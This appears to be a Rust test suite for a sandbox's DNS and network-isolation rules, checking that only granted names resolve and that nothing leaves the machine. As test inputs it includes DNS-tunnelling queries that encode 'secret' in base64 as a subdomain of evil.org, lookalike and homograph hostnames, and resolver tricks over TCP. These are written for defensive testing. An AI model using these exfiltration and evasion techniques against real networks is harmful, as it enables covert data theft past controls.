//! Questions for names: nothing leaves the machine, and nothing is answered that was not allowed.

use crate::town::{Town, refused};
use d1_core::{NetworkAsk, NetworkReason, NetworkUse};

/// Asks by hand: the name, the number of the record, the resolver. Prints the code of the answer
/// and the number of records in it.
const ASK: &str = r#"
ask() {
  printf -v q '\\x%02x' 18 52 1 0 0 1 0 0 0 0 0 0
  local IFS=.; for label in $1; do
    printf -v q '%s\\x%02x%s' "$q" ${#label} "$label"
  done
  IFS=' '
  printf -v q '%s\\x00\\x00\\x%02x\\x00\\x01' "$q" $2
  exec 3<>/dev/udp/$3/53 || return
  printf "$q" >&3
  timeout 20 dd bs=512 count=1 <&3 2>/dev/null | od -An -tu1 -w512 | { read -r a b c code e f g answers rest; echo "$1 $2 $((code & 15)) $answers"; }
  exec 3>&-
}
"#;

fn host(network: &NetworkUse, ask: NetworkAsk, host: &str) -> Option<bool> {
    let one = network.decisions.iter().find(|it| it.ask == ask && it.host == host)?;
    Some(one.allowed)
}

#[tokio::test]
async fn f17_an_allowed_name_has_one_address_and_every_other_question_is_refused() {
    let town = Town::new();
    let lines = [
        "ask good.example.org 1 8.8.8.8",
        "ask good.example.org 28 8.8.8.8",
        "ask good.example.org 65 1.1.1.1",
        "ask good.example.org 16 192.0.2.1",
        "ask c2VjcmV0.good.example.org 1 8.8.8.8",
        "ask c2VjcmV0.evil.org 1 8.8.8.8",
        "ask c2VjcmV0.evil.org 16 127.0.0.1",
    ];
    let (said, network) =
        town.shell(&format!("{ASK}{}", lines.join("\n")), &["good.example.org"]).await;
    // The code (0 is well, 5 is refused), and how many records there are.
    let wanted = "good.example.org 1 0 1\ngood.example.org 28 0 0\ngood.example.org 65 0 0\n\
        good.example.org 16 0 0\nc2VjcmV0.good.example.org 1 5 0\nc2VjcmV0.evil.org 1 5 0\n\
        c2VjcmV0.evil.org 16 5 0\n";
    assert_eq!(said, wanted);
    assert_eq!(host(&network, NetworkAsk::Name, "good.example.org"), Some(true));
    assert_eq!(host(&network, NetworkAsk::Record, "good.example.org"), Some(true));
    assert_eq!(host(&network, NetworkAsk::Name, "c2vjcmv0.evil.org"), Some(false));
    assert_eq!(host(&network, NetworkAsk::Record, "c2vjcmv0.evil.org"), Some(false));
    assert_eq!(town.map.looked_up(), Vec::<String>::new(), "no question left the machine");
}

#[tokio::test]
async fn f17_under_an_allowed_star_a_question_alone_leaves_nothing_outside() {
    let town = Town::new();
    let line = "for i in 1 2 3; do getent hosts secret$i.wide.example.org; done; \
        getent hosts wide.example.org; true";
    let (said, network) = town.shell(line, &["*.wide.example.org"]).await;
    assert_eq!(said.lines().count(), 3, "{said}");
    assert!(said.lines().all(|line| line.starts_with("198.18.")), "{said}");
    assert!(refused(&network, "wide.example.org", NetworkReason::NameNotAllowed), "the apex");
    assert_eq!(town.map.looked_up(), Vec::<String>::new());
}

#[tokio::test]
async fn f08_what_only_looks_like_an_allowed_name_is_another_one() {
    let town = Town::new();
    let page = town.page("hello").await;
    town.map.lead("github.com", &[&[page]]);
    for same in ["GITHUB.com", "github.com."] {
        let (said, _) = town.shell(&format!("curl -sS http://{same}/"), &["github.com"]).await;
        assert_eq!(said, "hello", "{same}");
    }
    for other in ["evilgithub.com", "github.com.evil.com", "xn--gthub-n4a.com", "com"] {
        let line = format!("curl -sS http://{other}/ 2>&1; true");
        let (said, network) = town.shell(&line, &["github.com"]).await;
        assert!(said.contains("Could not resolve host"), "{other}: {said}");
        assert!(refused(&network, other, NetworkReason::NameNotAllowed), "{network:?}");
    }
}

#[tokio::test]
async fn questions_over_tcp_are_answered_by_the_same_rule() {
    let town = Town::new();
    let line = r#"echo "options use-vc" > /tmp/x; RES_OPTIONS=use-vc getent hosts good.example.org; RES_OPTIONS=use-vc getent hosts evil.org; true"#;
    let (said, network) = town.shell(line, &["good.example.org"]).await;
    assert_eq!(said.lines().count(), 1, "{said}");
    assert!(said.contains("good.example.org"), "{said}");
    assert!(refused(&network, "evil.org", NetworkReason::NameNotAllowed));
}

#[tokio::test]
async fn the_machine_s_own_list_of_hosts_leads_nowhere_inside() {
    let town = Town::new();
    let own = std::fs::read_to_string("/etc/hosts").unwrap();
    let others = own
        .lines()
        .flat_map(|line| line.split('#').next().unwrap_or("").split_whitespace().skip(1));
    let Some(name) = others.filter(|name| !name.contains("localhost")).last() else { return };
    let line = format!("getent hosts {name}; cat /etc/hosts");
    let (said, _) = town.shell(&line, &["good.example.org"]).await;
    assert_eq!(said, "127.0.0.1 localhost\n::1 localhost\n");
}

/// Programs know this name without asking; it means the loopback address outside, where the owner
/// lets names lead there.
#[tokio::test]
async fn a_server_of_this_machine_is_called_by_its_name_where_that_was_granted() {
    let town = Town::new();
    let page = town.page("mirror").await;
    town.map.lead("localhost", &[&[page]]);
    let line = "curl -sS http://localhost/; curl -sS http://127.0.0.1/ | head -c 6";
    let (said, _) = town.shell(line, &["localhost"]).await;
    assert_eq!(said, "mirrord1-doc", "the address alone names another host in its request");
    let mut grant = town.grant(&["sh", "-c", line], &["localhost"]);
    grant.network.inside.clear();
    let ended = town.run(&grant).await.unwrap();
    let reason = NetworkReason::LoopbackAddress;
    assert!(refused(&ended.isolation.network, "localhost", reason), "{:?}", ended.isolation);
}
